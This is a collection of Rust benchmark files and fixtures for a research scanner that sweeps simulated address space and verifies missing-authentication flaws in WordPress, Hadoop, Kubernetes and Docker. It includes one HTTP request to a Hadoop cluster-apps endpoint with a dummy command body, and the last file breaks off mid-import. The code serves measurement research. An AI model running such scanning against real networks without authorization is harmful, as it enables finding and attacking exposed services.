    let scanner = PortScanner::new(PortScanConfig::new(vec![tiny_space()]));

    let mut group = c.benchmark_group("portscan");
    group.sample_size(10);
    group.throughput(Throughput::Elements(65_536 * 12));
    group.bench_function("sweep_slash16", |b| {
        b.iter(|| {
            let result = rt.block_on(scanner.scan(&transport));
            assert!(!result.open.is_empty());
        })
    });
    group.bench_function("shuffle_blocks", |b| b.iter(|| scanner.shuffled_blocks()));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
