//! Scratch-arena reuse vs. per-probe allocation in the stage-II body
//! matching hot path, plus the inline header arena vs. a per-field
//! `String` map.
//!
//! `fresh_arena_per_body` models the pre-arena behaviour (every probe
//! pays view materialization into new buffers); `reused_arena` is the
//! shipping configuration (one warm arena per worker loop, zero
//! steady-state allocations).

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use nokeys_scanner::signatures::all_signatures;
use nokeys_scanner::{MultiPattern, PreparedBody, Scratch};

/// Body shapes spanning the interesting cases: mixed case and
/// whitespace (both views materialize), canonical lowercase (views
/// served in place), and a large page.
fn bodies() -> Vec<String> {
    vec![
        format!(
            "<html><head><title>Dashboard [Jenkins]</title></head>{}</html>",
            "<div class=\"Row\">  cell  </div>".repeat(64)
        ),
        "{\"kind\": \"Status\", \"apiVersion\": \"v1\", \"reason\": \"Forbidden\"}".to_string(),
        "all-lowercase-no-whitespace-wp-content-phpmyadmin".repeat(8),
        format!(
            "{} MinAPIVersion {}",
            "Noise  Mixed Case ".repeat(128),
            "k8s.io"
        ),
    ]
}

fn bench(c: &mut Criterion) {
    let matcher = MultiPattern::new(&all_signatures());
    let bodies = bodies();
    let total_bytes: u64 = bodies.iter().map(|b| b.len() as u64).sum();

    let mut group = c.benchmark_group("alloc_reuse");
    group.throughput(Throughput::Bytes(total_bytes));
    group.bench_function("fresh_arena_per_body", |b| {
        b.iter(|| {
            for body in &bodies {
                let mut scratch = Scratch::new();
                black_box(matcher.matched_signatures_scratch(black_box(body), &mut scratch));
                black_box(scratch.matched());
            }
        })
    });
    group.bench_function("reused_arena", |b| {
        let mut scratch = Scratch::new();
        b.iter(|| {
            for body in &bodies {
                black_box(matcher.matched_signatures_scratch(black_box(body), &mut scratch));
                black_box(scratch.matched());
            }
        })
    });
    group.bench_function("prepared_body_allocating_reference", |b| {
        // The pre-arena code path: PreparedBody owns the body and
        // materializes each view into a fresh String.
        b.iter(|| {
            for body in &bodies {
                let prepared = PreparedBody::new(body.clone());
                black_box(matcher.matched_signatures(&prepared));
            }
        })
    });
    group.bench_function("headers_inline_arena", |b| {
        b.iter(|| {
            for _ in 0..16 {
                let mut h = nokeys_http::Headers::new();
                h.append("Content-Type", "text/html; charset=utf-8");
                h.append("Content-Length", "4096");
                h.append("Connection", "keep-alive");
                h.append("Server", "sim");
                black_box(h.get("content-type"));
                black_box(h.connection_keep_alive());
            }
        })
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
