//! Signature-engine throughput: 90 signatures against representative
//! response bodies (the per-body cost of stage II), comparing the naive
//! 90-pattern linear scan with the single-pass multi-pattern automaton.

use criterion::{black_box, criterion_group, criterion_main, Criterion};
use nokeys_scanner::pattern::PreparedBody;
use nokeys_scanner::signatures::{all_signatures, match_candidates};
use nokeys_scanner::MultiPattern;

fn bodies() -> Vec<(&'static str, String)> {
    use nokeys_apps::{build_instance, release_history, AppConfig, AppId};
    let mut out = Vec::new();
    for (label, app) in [
        ("wordpress", AppId::WordPress),
        ("hadoop", AppId::Hadoop),
        ("kubernetes", AppId::Kubernetes),
    ] {
        let v = *release_history(app).last().unwrap();
        let mut inst = build_instance(app, v, AppConfig::secure_for(app, &v));
        let body = inst
            .handle(
                &nokeys_http::Request::get("/"),
                std::net::Ipv4Addr::LOCALHOST,
            )
            .response
            .body_text();
        out.push((label, body));
    }
    out.push((
        "noise",
        "<html><head><title>Welcome to nginx!</title></head></html>".repeat(8),
    ));
    out
}

fn bench(c: &mut Criterion) {
    let signatures = all_signatures();
    let mut group = c.benchmark_group("prefilter_signatures");
    for (label, body) in bodies() {
        // Naive baseline: each of the 90 patterns scans the body.
        group.bench_function(format!("{label}/linear"), |b| {
            b.iter(|| {
                let prepared = PreparedBody::new(black_box(body.clone()));
                black_box(match_candidates(&signatures, &prepared))
            })
        });
        // Single-pass Aho-Corasick over each prepared view (the form the
        // prefilter actually runs).
        let matcher = MultiPattern::new(&signatures);
        group.bench_function(format!("{label}/multipattern"), |b| {
            b.iter(|| {
                let prepared = PreparedBody::new(black_box(body.clone()));
                black_box(matcher.match_candidates(&prepared))
            })
        });
    }
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
