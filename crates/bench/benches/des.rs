//! Discrete-event queue operations (the simulation substrate).

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use nokeys_netsim::{EventQueue, SimTime};

fn bench(c: &mut Criterion) {
    let mut group = c.benchmark_group("event_queue");
    group.throughput(Throughput::Elements(10_000));
    group.bench_function("schedule_pop_10k", |b| {
        b.iter(|| {
            let mut q = EventQueue::new();
            // Pseudo-random times via a multiplicative hash.
            for i in 0..10_000u64 {
                q.schedule(SimTime((i.wrapping_mul(2654435761) % 100_000) as i64), i);
            }
            let mut last = SimTime(i64::MIN);
            while let Some((t, e)) = q.pop() {
                assert!(t >= last);
                last = t;
                black_box(e);
            }
        })
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
