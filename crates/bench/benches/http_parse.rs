//! HTTP/1.1 parser and serializer throughput.

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use nokeys_http::encode::{encode_request, encode_response};
use nokeys_http::parse::{parse_request, parse_response, Limits, Parsed};
use nokeys_http::{Request, Response};

fn bench(c: &mut Criterion) {
    let limits = Limits::default();
    let response_wire = encode_response(&Response::html("<html>".repeat(200) + "</html>"));
    let request_wire = encode_request(
        &Request::post("/ws/v1/cluster/apps", "{\"command\":\"x\"}".repeat(20))
            .with_header("Host", "10.0.0.1"),
    );

    let mut group = c.benchmark_group("http_parse");
    group.throughput(Throughput::Bytes(response_wire.len() as u64));
    group.bench_function("parse_response", |b| {
        b.iter(|| {
            let parsed = parse_response(black_box(&response_wire), false, false, &limits);
            assert!(matches!(parsed, Ok(Parsed::Complete(_, _))));
        })
    });
    group.throughput(Throughput::Bytes(request_wire.len() as u64));
    group.bench_function("parse_request", |b| {
        b.iter(|| {
            let parsed = parse_request(black_box(&request_wire), &limits);
            assert!(matches!(parsed, Ok(Parsed::Complete(_, _))));
        })
    });
    group.bench_function("encode_response", |b| {
        let resp = Response::html("x".repeat(2048));
        b.iter(|| black_box(encode_response(black_box(&resp))))
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
