//! Stage III cost: one MAV-plugin verification per application
//! (vulnerable instance served through the in-memory transport).

use criterion::{criterion_group, criterion_main, Criterion};
use nokeys_apps::{build_instance, release_history, AppConfig, AppId};
use nokeys_http::memory::HandlerTransport;
use nokeys_http::{Client, Endpoint, Scheme};
use nokeys_scanner::plugin::{detect_mav, AppHandler};
use std::net::Ipv4Addr;
use std::sync::Arc;

fn bench(c: &mut Criterion) {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_time()
        .build()
        .unwrap();
    let mut group = c.benchmark_group("mav_plugins");
    for app in [
        AppId::WordPress,
        AppId::Hadoop,
        AppId::Kubernetes,
        AppId::Docker,
    ] {
        let history = release_history(app);
        let version = history[0];
        let cfg = AppConfig::vulnerable_for(app, &version);
        let ep = Endpoint::new(Ipv4Addr::new(10, 0, 0, 1), app.scan_ports()[0]);
        let handler = Arc::new(AppHandler::new(build_instance(app, version, cfg)));
        let client = Client::new(HandlerTransport::new().with(ep, handler));
        group.bench_function(app.name(), |b| {
            b.iter(|| {
                let found = rt.block_on(detect_mav(&client, app, ep, Scheme::Http));
                assert!(found);
            })
        });
    }
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
