//! Full-pipeline throughput and the two pipeline ablations:
//! prefilter on/off and stage-I batch size.

use criterion::{criterion_group, criterion_main, Criterion};
use nokeys_bench::{run_pipeline_batched, scan_without_prefilter, tiny_transport};

fn bench(c: &mut Criterion) {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_time()
        .build()
        .unwrap();

    let mut group = c.benchmark_group("pipeline");
    group.sample_size(10);
    group.bench_function("full_tiny_universe", |b| {
        let t = tiny_transport(42);
        b.iter(|| {
            let report = rt.block_on(run_pipeline_batched(&t, 64));
            assert!(report.total_mavs() > 0);
        })
    });
    // Ablation: batching granularity.
    for batch in [8usize, 256] {
        group.bench_function(format!("batch_size_{batch}"), |b| {
            let t = tiny_transport(42);
            b.iter(|| rt.block_on(run_pipeline_batched(&t, batch)))
        });
    }
    // Ablation: drop the prefilter — every open endpoint gets all 18
    // plugins. Same findings, far more HTTP requests.
    group.bench_function("ablation_no_prefilter", |b| {
        let t = tiny_transport(42);
        b.iter(|| {
            let (vulnerable, _invocations) = rt.block_on(scan_without_prefilter(&t));
            assert!(vulnerable > 0);
        })
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
