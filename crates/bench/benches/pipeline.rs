//! Full-pipeline throughput and the pipeline ablations: prefilter
//! on/off, stage-I batch size, stage-II/III concurrency, and the
//! retry layer's overhead with and without injected faults.

use criterion::{criterion_group, criterion_main, Criterion};
use nokeys_bench::{
    faulty_tiny_transport, merge_shard_segments, repro_slice, repro_transport, resume_pipeline,
    run_pipeline_batched, run_pipeline_checkpointed, run_pipeline_parallel, run_pipeline_retrying,
    run_pipeline_sharded, run_pipeline_swept, run_sweep, scan_shard_segments,
    scan_without_prefilter, tiny_space, tiny_transport,
};

fn bench(c: &mut Criterion) {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_time()
        .build()
        .unwrap();

    let mut group = c.benchmark_group("pipeline");
    group.sample_size(10);
    group.bench_function("full_tiny_universe", |b| {
        let t = tiny_transport(42);
        b.iter(|| {
            let report = rt.block_on(run_pipeline_batched(&t, 64));
            assert!(report.total_mavs() > 0);
        })
    });
    // Ablation: batching granularity.
    for batch in [8usize, 256] {
        group.bench_function(format!("batch_size_{batch}"), |b| {
            let t = tiny_transport(42);
            b.iter(|| rt.block_on(run_pipeline_batched(&t, batch)))
        });
    }
    // Ablation: drop the prefilter — every open endpoint gets all 18
    // plugins. Same findings, far more HTTP requests.
    group.bench_function("ablation_no_prefilter", |b| {
        let t = tiny_transport(42);
        b.iter(|| {
            let (vulnerable, _invocations) = rt.block_on(scan_without_prefilter(&t));
            assert!(vulnerable > 0);
        })
    });
    group.finish();

    // Concurrency scaling: same report at every parallelism (asserted in
    // the harness tests); the wall-clock difference is the speedup from
    // overlapping the sweep with bounded-concurrency stage II/III.
    let mt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(4)
        .enable_time()
        .build()
        .unwrap();
    let mut group = c.benchmark_group("pipeline_concurrency");
    group.sample_size(10);
    for parallelism in [1usize, 4, 16] {
        group.bench_function(format!("parallelism_{parallelism}"), |b| {
            let t = tiny_transport(42);
            b.iter(|| {
                let report = mt.block_on(run_pipeline_parallel(&t, parallelism));
                assert!(report.total_mavs() > 0);
            })
        });
    }
    group.finish();

    // Retry overhead: the retry layer should be ~free on a clean
    // transport (no transient outcomes, so every budget stops after one
    // attempt) and pay only for re-attempts + virtual backoff under
    // injected faults.
    let mut group = c.benchmark_group("retry_overhead");
    group.sample_size(10);
    for retries in [1u32, 3] {
        group.bench_function(format!("fault_free/retries_{retries}"), |b| {
            let t = tiny_transport(42);
            b.iter(|| {
                let report = mt.block_on(run_pipeline_retrying(&t, retries));
                assert!(report.total_mavs() > 0);
            })
        });
    }
    group.bench_function("fault_rate_0.05/retries_3", |b| {
        let t = faulty_tiny_transport(42, 0.05);
        b.iter(|| {
            let report = mt.block_on(run_pipeline_retrying(&t, 3));
            assert!(report.total_mavs() > 0);
        })
    });
    group.finish();

    // Checkpointing cost: a run writing a checkpoint every other batch
    // vs the plain runs above (the delta is the staging-registry
    // bookkeeping plus the serialize + atomic-rename writes), and the
    // warm resume of a finished checkpoint, which never touches the
    // network at all.
    let mut group = c.benchmark_group("checkpoint");
    group.sample_size(10);
    group.bench_function("checkpoint_overhead", |b| {
        let t = tiny_transport(42);
        let path =
            std::env::temp_dir().join(format!("nokeys-bench-checkpoint-{}.json", std::process::id()));
        b.iter(|| {
            let report = mt.block_on(run_pipeline_checkpointed(&t, &path, 2));
            assert!(report.total_mavs() > 0);
        });
        let _ = std::fs::remove_file(&path);
    });
    group.bench_function("warm_resume", |b| {
        let t = tiny_transport(42);
        let path =
            std::env::temp_dir().join(format!("nokeys-bench-warm-{}.json", std::process::id()));
        let finished = mt.block_on(run_pipeline_checkpointed(&t, &path, 2));
        b.iter(|| {
            let report = mt.block_on(resume_pipeline(&t, &path));
            assert_eq!(report.total_mavs(), finished.total_mavs());
        });
        let _ = std::fs::remove_file(&path);
    });
    group.finish();

    // Sparse sweep ablation: stage I visits O(populated endpoints +
    // blocks) instead of O(address space); the report is byte-identical
    // either way (asserted in the harness tests and
    // tests/sparse_sweep.rs), so the wall-clock delta is pure sweep
    // cost. The repro-slice rows use the paper-scale universe, where
    // sparsity actually dominates.
    let mut group = c.benchmark_group("sparse_sweep");
    group.sample_size(10);
    for (label, dense) in [("sparse", false), ("dense", true)] {
        group.bench_function(format!("tiny_stage1_{label}"), |b| {
            let t = tiny_transport(42);
            b.iter(|| {
                let result = rt.block_on(run_sweep(&t, tiny_space(), dense));
                assert!(result.probes_sent > 0);
            })
        });
        group.bench_function(format!("repro_slice_stage1_{label}"), |b| {
            let t = repro_transport(42);
            b.iter(|| {
                let result = rt.block_on(run_sweep(&t, repro_slice(), dense));
                assert!(result.probes_sent > 0);
            })
        });
    }
    group.bench_function("tiny_full_pipeline_sparse", |b| {
        let t = tiny_transport(42);
        b.iter(|| {
            let report = rt.block_on(run_pipeline_swept(&t, false));
            assert!(report.total_mavs() > 0);
        })
    });
    group.finish();

    // Shard scaling: the same scan split across K worker tasks with
    // work-stealing. The report is byte-identical at every K (asserted
    // in tests/shard_scan.rs and the harness tests), so the wall-clock
    // curve is pure orchestration speedup over the paper-scale repro
    // slice. The reducer row isolates the merge cost: absorbing the
    // shard partials into a fresh registry, without any scanning.
    let mut group = c.benchmark_group("shard_scaling");
    group.sample_size(10);
    for shards in [1usize, 2, 4, 8] {
        group.bench_function(format!("repro_slice_shards_{shards}"), |b| {
            let t = repro_transport(42);
            b.iter(|| {
                let report = mt.block_on(run_pipeline_sharded(&t, repro_slice(), shards));
                assert!(report.total_hosts() > 0);
            })
        });
    }
    group.bench_function("reducer_merge_8_segments", |b| {
        let t = repro_transport(42);
        let segments = mt.block_on(scan_shard_segments(&t, repro_slice(), 8));
        b.iter(|| {
            let report = merge_shard_segments(segments.clone());
            assert!(report.probes_sent > 0);
        })
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
