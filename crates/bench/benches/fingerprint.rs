//! Fingerprinting ablation: voluntary disclosure vs knowledge-base crawl.

use criterion::{criterion_group, criterion_main, Criterion};
use nokeys_apps::{build_instance, release_history, AppConfig, AppId};
use nokeys_http::memory::HandlerTransport;
use nokeys_http::{Client, Endpoint, Scheme};
use nokeys_scanner::fingerprint::knowledge_base::KnowledgeBase;
use nokeys_scanner::fingerprint::{crawler, voluntary};
use nokeys_scanner::plugin::AppHandler;
use std::net::Ipv4Addr;
use std::sync::Arc;

fn client_for(app: AppId) -> (Client<HandlerTransport>, Endpoint) {
    let v = *release_history(app).last().unwrap();
    let ep = Endpoint::new(Ipv4Addr::new(10, 0, 0, 2), app.scan_ports()[0]);
    let handler = Arc::new(AppHandler::new(build_instance(
        app,
        v,
        AppConfig::secure_for(app, &v),
    )));
    (Client::new(HandlerTransport::new().with(ep, handler)), ep)
}

fn bench(c: &mut Criterion) {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_time()
        .build()
        .unwrap();
    let mut group = c.benchmark_group("fingerprint");

    group.bench_function("knowledge_base_build", |b| b.iter(KnowledgeBase::build));

    // Voluntary: one request (Consul version comment).
    let (client, ep) = client_for(AppId::Consul);
    group.bench_function("voluntary_consul", |b| {
        b.iter(|| {
            let v = rt.block_on(voluntary::extract(&client, AppId::Consul, ep, Scheme::Http));
            assert!(v.is_some());
        })
    });

    // Knowledge base: crawl four assets + hash + intersect (GoCD has no
    // voluntary disclosure).
    let kb = KnowledgeBase::build();
    let (client, ep) = client_for(AppId::Gocd);
    group.bench_function("knowledge_base_gocd", |b| {
        b.iter(|| {
            let id = rt.block_on(crawler::identify(&client, &kb, ep, Scheme::Http));
            assert!(id.is_some());
        })
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
