//! Keep-alive connection reuse: sequential request bursts against one
//! loopback host with and without the transport pool. The delta is the
//! per-request TCP handshake the pool amortises away — the cost stage
//! II/III pays on every probe when each exchange dials fresh.

use criterion::{criterion_group, criterion_main, Criterion};
use nokeys_http::server::serve_tcp;
use nokeys_http::transport::{TcpTransport, Transport};
use nokeys_http::{Client, PooledTransport, Request, Response, Url};
use std::net::Ipv4Addr;
use std::sync::Arc;

async fn burst<T: Transport>(client: &Client<T>, url: &Url, requests: usize) {
    for _ in 0..requests {
        let fetched = client.get(url).await.expect("loopback request");
        assert_eq!(fetched.response.status.as_u16(), 200);
    }
}

fn bench(c: &mut Criterion) {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();

    let handler = Arc::new(|req: &Request, _| Response::text(req.path().to_string()));
    let server = rt
        .block_on(serve_tcp(Ipv4Addr::LOCALHOST, 0, handler))
        .unwrap();
    let url = Url::parse(&format!("http://127.0.0.1:{}/probe", server.port)).unwrap();

    let mut group = c.benchmark_group("connection_reuse");
    group.sample_size(10);
    for requests in [4usize, 16] {
        group.bench_function(format!("unpooled_burst_{requests}"), |b| {
            let client = Client::new(TcpTransport::default());
            b.iter(|| rt.block_on(burst(&client, &url, requests)))
        });
        group.bench_function(format!("pooled_burst_{requests}"), |b| {
            // Built once: after the first dial the pool serves every
            // exchange from the same kept-alive connection.
            let client = Client::new(PooledTransport::new(TcpTransport::default()));
            b.iter(|| rt.block_on(burst(&client, &url, requests)))
        });
    }
    group.finish();

    rt.block_on(server.shutdown());
}

criterion_group!(benches, bench);
criterion_main!(benches);
