//! Honeypot study throughput: the full four-week campaign replay
//! (2,195 attacks, detection, clustering).

use criterion::{criterion_group, criterion_main, Criterion};
use nokeys_honeypot::{run_study, StudyConfig};

fn bench(c: &mut Criterion) {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_time()
        .build()
        .unwrap();
    let mut group = c.benchmark_group("honeypot");
    group.sample_size(10);
    group.bench_function("four_week_study", |b| {
        b.iter(|| {
            let result = rt.block_on(run_study(&StudyConfig {
                seed: 2022,
                background_noise: false,
            }));
            assert_eq!(result.attacks.len(), 2195);
        })
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
