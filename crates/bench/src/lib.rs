//! Shared fixtures and ablation harnesses for the Criterion benchmarks.
//!
//! The ablations quantify the design choices `DESIGN.md` calls out:
//!
//! * **Prefilter ablation** — stage II exists so that stage III's
//!   per-application plugins only run on plausible candidates.
//!   [`scan_without_prefilter`] runs every plugin against every open
//!   endpoint instead; the benchmark shows the request blow-up.
//! * **Batching ablation** — the paper processes /24 batches with the
//!   full pipeline while the sweep continues; [`run_pipeline_batched`]
//!   exposes the batch size so throughput can be compared.
//! * **Fingerprint ablation** — voluntary extraction vs the
//!   knowledge-base crawl (accuracy is tested in `nokeys-scanner`; the
//!   benchmark measures cost).

use nokeys_apps::AppId;
use nokeys_http::{Client, Endpoint};
use nokeys_netsim::{SimTransport, Universe, UniverseConfig};
use nokeys_scanner::plugin::detect_mav;
use nokeys_scanner::{Pipeline, PipelineConfig, PortScanConfig, PortScanner, ScanReport};
use std::sync::Arc;

/// A small, deterministic simulated-Internet fixture.
pub fn tiny_transport(seed: u64) -> SimTransport {
    SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(seed))))
}

/// The tiny universe's scan space.
pub fn tiny_space() -> nokeys_scanner::portscan::Cidr {
    "20.0.0.0/16".parse().expect("static CIDR")
}

/// Run the full pipeline with a given stage-I batch size.
pub async fn run_pipeline_batched(transport: &SimTransport, blocks_per_batch: usize) -> ScanReport {
    let client = Client::new(transport.clone());
    let config = PipelineConfig::builder(vec![tiny_space()])
        .blocks_per_batch(blocks_per_batch)
        .build();
    Pipeline::new(config)
        .run(&client)
        .await
        .expect("pipeline failed")
}

/// Run the full pipeline with a given stage-II/III concurrency bound
/// (the streaming pipeline overlaps the sweep with verification either
/// way; `parallelism` caps the in-flight probes and host verifications).
pub async fn run_pipeline_parallel(transport: &SimTransport, parallelism: usize) -> ScanReport {
    let client = Client::new(transport.clone());
    let config = PipelineConfig::builder(vec![tiny_space()])
        .parallelism(parallelism)
        .build();
    Pipeline::new(config)
        .run(&client)
        .await
        .expect("pipeline failed")
}

/// The tiny fixture with transient faults injected at `rate` (SYN loss
/// and connect timeouts, keyed per endpoint/lane/attempt ordinal).
pub fn faulty_tiny_transport(seed: u64, rate: f64) -> SimTransport {
    tiny_transport(seed).with_fault_injection(rate)
}

/// The paper-scale repro universe (a /12, tens of thousands of hosts) —
/// sparse enough for the block-sweep ablation to show its asymptotics.
pub fn repro_transport(seed: u64) -> SimTransport {
    SimTransport::new(Arc::new(Universe::generate(UniverseConfig::repro(seed))))
}

/// A /14 slice of the repro space: large enough that the dense loop's
/// O(address space) cost dominates, small enough to iterate in a bench.
pub fn repro_slice() -> nokeys_scanner::portscan::Cidr {
    "20.0.0.0/14".parse().expect("static CIDR")
}

/// Run only the stage-I sweep over `space` in either sweep mode — the
/// `sparse_sweep` ablation harness. `dense` forces the per-endpoint
/// oracle loop; the default sparse path hands whole /24 blocks to
/// `Transport::sweep_block`.
pub async fn run_sweep(
    transport: &SimTransport,
    space: nokeys_scanner::portscan::Cidr,
    dense: bool,
) -> nokeys_scanner::portscan::PortScanResult {
    let mut config = PortScanConfig::new(vec![space]);
    config.dense_sweep = dense;
    PortScanner::new(config).scan(transport).await
}

/// Run the full pipeline in either stage-I sweep mode.
pub async fn run_pipeline_swept(transport: &SimTransport, dense: bool) -> ScanReport {
    let client = Client::new(transport.clone());
    let config = PipelineConfig::builder(vec![tiny_space()])
        .dense_sweep(dense)
        .build();
    Pipeline::new(config)
        .run(&client)
        .await
        .expect("pipeline failed")
}

/// Run the full pipeline with a per-operation transport attempt budget
/// (1 disables retrying) — the `retry_overhead` benchmark harness.
pub async fn run_pipeline_retrying(transport: &SimTransport, retries: u32) -> ScanReport {
    let client = Client::new(transport.clone());
    let config = PipelineConfig::builder(vec![tiny_space()])
        .retries(retries)
        .build();
    Pipeline::new(config)
        .run(&client)
        .await
        .expect("pipeline failed")
}

/// Run the full pipeline writing a resumable checkpoint every `every`
/// batches — the `checkpoint_overhead` benchmark harness.
pub async fn run_pipeline_checkpointed(
    transport: &SimTransport,
    path: &std::path::Path,
    every: u64,
) -> ScanReport {
    let client = Client::new(transport.clone());
    let config = PipelineConfig::builder(vec![tiny_space()])
        .checkpoint_path(path)
        .checkpoint_every(every)
        .build();
    Pipeline::new(config)
        .run(&client)
        .await
        .expect("pipeline failed")
}

/// Resume the pipeline from the checkpoint at `path`. Against a
/// *finished* checkpoint this measures the pure warm path: deserialize,
/// validate the config fingerprint, return the stored report.
pub async fn resume_pipeline(transport: &SimTransport, path: &std::path::Path) -> ScanReport {
    let client = Client::new(transport.clone());
    let config = PipelineConfig::builder(vec![tiny_space()])
        .checkpoint_path(path)
        .build();
    Pipeline::new(config)
        .resume(&client, path)
        .await
        .expect("resume failed")
}

/// Run the full pipeline over `space` split across `shards` worker
/// tasks with work-stealing — the `shard_scaling` benchmark harness.
/// The report is byte-identical at every shard count (asserted in
/// `tests/shard_scan.rs`), so the wall-clock curve is pure
/// orchestration speedup.
pub async fn run_pipeline_sharded(
    transport: &SimTransport,
    space: nokeys_scanner::portscan::Cidr,
    shards: usize,
) -> ScanReport {
    let client = Client::new(transport.clone());
    let config = PipelineConfig::builder(vec![space]).shards(shards).build();
    Pipeline::new(config)
        .run(&client)
        .await
        .expect("pipeline failed")
}

/// Scan `space` as `segments` equal contiguous batch ranges, returning
/// the shard partials — input for the reducer-cost benchmark.
pub async fn scan_shard_segments(
    transport: &SimTransport,
    space: nokeys_scanner::portscan::Cidr,
    segments: u64,
) -> Vec<nokeys_scanner::ShardSegment> {
    let client = Client::new(transport.clone());
    let config = PipelineConfig::builder(vec![space]).build();
    let blocks = PortScanner::new(config.portscan.clone())
        .shuffled_blocks()
        .len() as u64;
    let bpb = config.blocks_per_batch as u64;
    let total = blocks.div_euclid(bpb) + u64::from(blocks % bpb != 0);
    let mut out = Vec::new();
    let mut start = 0;
    for i in 0..segments {
        let end = total * (i + 1) / segments;
        out.push(nokeys_scanner::shard::scan_segment(&config, &client, start, end).await);
        start = end;
    }
    out
}

/// Reduce shard partials into a final report (into a fresh registry
/// each call) — isolates the reducer's merge cost from the scanning.
pub fn merge_shard_segments(segments: Vec<nokeys_scanner::ShardSegment>) -> ScanReport {
    nokeys_scanner::shard::merge_segments(&nokeys_scanner::Telemetry::new(), segments)
        .expect("contiguous segments merge")
}

/// Ablation: no stage II — every open, non-tarpit endpoint gets every
/// application's plugin. Returns (findings, plugin invocations).
pub async fn scan_without_prefilter(transport: &SimTransport) -> (u64, u64) {
    let client = Client::new(transport.clone());
    let scanner = PortScanner::new(PortScanConfig::new(vec![tiny_space()]));
    let scan = scanner.scan(transport).await;
    let mut vulnerable = 0u64;
    let mut invocations = 0u64;
    'host: for (ip, ports) in scan.by_host() {
        if ports.len() >= 12 {
            continue; // same artifact exclusion as the real pipeline
        }
        for port in ports {
            for app in AppId::in_scope() {
                for &scheme in nokeys_scanner::Prefilter::schemes_for_port(port) {
                    invocations += 1;
                    if detect_mav(&client, app, Endpoint::new(ip, port), scheme).await {
                        // Count each host once, like the pipeline does.
                        vulnerable += 1;
                        continue 'host;
                    }
                }
            }
        }
    }
    (vulnerable, invocations)
}

/// HTTP-exchange count of a transport (for reporting request blow-ups).
pub fn request_count(transport: &SimTransport) -> u64 {
    transport.stats().requests()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn ablation_agrees_with_pipeline_on_vulnerable_counts() {
        let t = tiny_transport(42);
        let report = run_pipeline_batched(&t, 64).await;
        let baseline_requests = request_count(&t);

        let t2 = tiny_transport(42);
        let (vulnerable, invocations) = scan_without_prefilter(&t2).await;
        assert_eq!(
            vulnerable,
            report.total_mavs(),
            "both approaches find the same MAVs"
        );
        assert!(invocations > 1000, "plugin blow-up without the prefilter");
        assert!(
            request_count(&t2) > baseline_requests,
            "the prefilter saves HTTP requests: {} vs {}",
            request_count(&t2),
            baseline_requests
        );
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn parallelism_does_not_change_results() {
        let t1 = tiny_transport(7);
        let t16 = tiny_transport(7);
        let a = run_pipeline_parallel(&t1, 1).await;
        let b = run_pipeline_parallel(&t16, 16).await;
        assert_eq!(
            serde_json::to_string(&a).unwrap(),
            serde_json::to_string(&b).unwrap(),
            "concurrency must not change the report"
        );
    }

    #[tokio::test]
    async fn sweep_modes_agree() {
        let sparse_t = tiny_transport(7);
        let dense_t = tiny_transport(7);
        let sparse = run_sweep(&sparse_t, tiny_space(), false).await;
        let dense = run_sweep(&dense_t, tiny_space(), true).await;
        assert_eq!(sparse.open, dense.open);
        assert_eq!(sparse.probes_sent, dense.probes_sent);
        assert!(
            sparse_t.stats().probes() < dense_t.stats().probes(),
            "the sparse path must evaluate fewer transport probes"
        );
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn shard_count_does_not_change_results() {
        let t1 = tiny_transport(7);
        let t4 = tiny_transport(7);
        let a = run_pipeline_sharded(&t1, tiny_space(), 1).await;
        let b = run_pipeline_sharded(&t4, tiny_space(), 4).await;
        assert_eq!(
            serde_json::to_string(&a).unwrap(),
            serde_json::to_string(&b).unwrap(),
            "sharding must not change the report"
        );
    }

    #[tokio::test]
    async fn segment_merge_agrees_with_a_single_run() {
        let t = tiny_transport(7);
        let segments = scan_shard_segments(&t, tiny_space(), 3).await;
        let merged = merge_shard_segments(segments);
        let whole = run_pipeline_batched(&tiny_transport(7), 64).await;
        assert_eq!(
            serde_json::to_string(&merged).unwrap(),
            serde_json::to_string(&whole).unwrap(),
            "the reducer must reconstruct the single-run report"
        );
    }

    #[tokio::test]
    async fn batch_size_does_not_change_results() {
        let t8 = tiny_transport(7);
        let t256 = tiny_transport(7);
        let a = run_pipeline_batched(&t8, 8).await;
        let b = run_pipeline_batched(&t256, 256).await;
        assert_eq!(a.total_hosts(), b.total_hosts());
        assert_eq!(a.total_mavs(), b.total_mavs());
    }
}
