//! The scan-as-a-service contract: a job submitted through the
//! multi-tenant `JobEngine` must be indistinguishable — in report bytes
//! and telemetry — from driving `Pipeline::run` directly, at any
//! parallelism or shard count, faults on or off, through a mid-run
//! pause/resume, and when two tenants with unequal probe quotas run
//! concurrently. Recurring observer jobs must reconcile exactly with
//! the `observe_instrumented` + `observe_incremental` sequence they
//! schedule.

use nokeys::http::{BlockSweepResult, Client, Endpoint, ProbeOutcome, Scheme, Transport};
use nokeys::netsim::observer_clock::wire_observer_clock;
use nokeys::netsim::{Cidr, SimTransport, Universe, UniverseConfig};
use nokeys::scanner::observer::{observe_incremental, observe_instrumented, ObserverConfig};
use nokeys::scanner::prelude::{
    CheckpointPolicy, JobEngine, JobError, JobEvent, JobSpec, JobState, LongevityStudy,
